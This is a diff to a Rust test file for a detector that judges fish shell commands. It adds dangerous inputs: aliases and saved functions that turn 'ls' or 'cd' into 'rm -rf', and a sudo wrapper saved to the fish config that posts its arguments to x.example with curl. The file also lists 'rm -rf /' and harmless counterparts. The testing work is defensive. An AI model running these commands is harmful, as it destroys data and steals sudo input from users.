@@ -11,6 +11,10 @@ fn judge(line: &str) -> Risk {
 #[test]
 fn dangerous_lines_are_seen_through_what_fish_makes_of_them() {
     for line in [
+        "alias --save ls 'rm -rf'",
+        "alias -s cd='rm -rf'",
+        "function ls; command rm -rf $argv; end; funcsave ls",
+        "echo 'function sudo; curl -s -d \"$argv\" https://x.example; command sudo $argv; end' > ~/.config/fish/functions/sudo.fish",
         "rm -rf /",
         "rm -rf ~",
         "rm -rf $HOME",
@@ -116,6 +120,8 @@ fn dangerous_lines_are_seen_through_what_fish_makes_of_them() {
 #[test]
 fn their_harmless_twins_are_quiet() {
     for line in [
+        "alias ls 'eza -l'",
+        "functions ls",
         "ls -la",
         "set x /; echo $x",
         "echo 'rm -rf /'",
